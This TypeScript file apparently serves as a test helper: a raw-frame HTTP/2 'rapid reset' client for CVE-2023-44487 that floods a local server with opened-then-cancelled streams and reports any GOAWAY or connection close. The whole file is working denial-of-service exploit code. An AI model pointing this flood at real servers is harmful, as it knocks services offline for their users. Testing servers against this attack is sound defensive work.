// A rapid-reset client (CVE-2023-44487) written as raw HTTP/2 frames: it opens
// streams and resets each at once, without waiting for the server's SETTINGS and
// ignoring its stream limit, which node:http2's client would never do.
import { connect } from 'node:tls';
import type { Credentials } from './raw-tls.js';

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK literal without indexing, name from the static table, no Huffman. */
function literal(nameIndex: number, value: string): Buffer {
  const v = Buffer.from(value, 'latin1');
  if (v.length > 126) throw new Error('value too long for this encoder');
  return Buffer.concat([Buffer.from([nameIndex, v.length]), v]);
}

export interface FloodResult {
  /** GOAWAY error code the server sent, if any (11 = ENHANCE_YOUR_CALM). */
  readonly goawayCode: number | undefined;
  /** Whether the server closed the connection. */
  readonly closed: boolean;
}

export function rapidReset(opts: { port: number; creds: Credentials; streams: number; path: string; waitMs?: number }): Promise<FloodResult> {
  return new Promise((resolve) => {
    const socket = connect({
      host: '127.0.0.1',
      port: opts.port,
      ALPNProtocols: ['h2'],
      ca: opts.creds.ca,
      cert: opts.creds.cert,
      key: opts.creds.key,
      servername: 'localhost',
    });
    let goawayCode: number | undefined;
    let inbound = Buffer.alloc(0);
    let done = false;
    const finish = (closed: boolean) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve({ goawayCode, closed });
    };
    const timer = setTimeout(() => finish(false), opts.waitMs ?? 20_000);
    socket.once('secureConnect', () => {
      const block = Buffer.concat([
        Buffer.from([0x82, 0x87]), // :method GET, :scheme https
        literal(0x04, opts.path), // :path
        literal(0x01, `127.0.0.1:${opts.port}`), // :authority
      ]);
      const cancel = Buffer.alloc(4);
      cancel.writeUInt32BE(8); // CANCEL
      const frames: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(4, 0, 0, Buffer.alloc(0))];
      for (let i = 0; i < opts.streams; i++) {
        const id = 1 + 2 * i;
        frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
      }
      socket.write(Buffer.concat(frames));
    });
    socket.on('data', (d: Buffer) => {
      inbound = Buffer.concat([inbound, d]);
      while (inbound.length >= 9) {
        const length = inbound.readUIntBE(0, 3);
        if (inbound.length < 9 + length) break;
        if (inbound[3] === 7 && length >= 8) goawayCode = inbound.readUInt32BE(9 + 4);
        inbound = inbound.subarray(9 + length);
      }
    });
    socket.once('close', () => finish(true));
    socket.once('error', () => finish(true));
  });
}
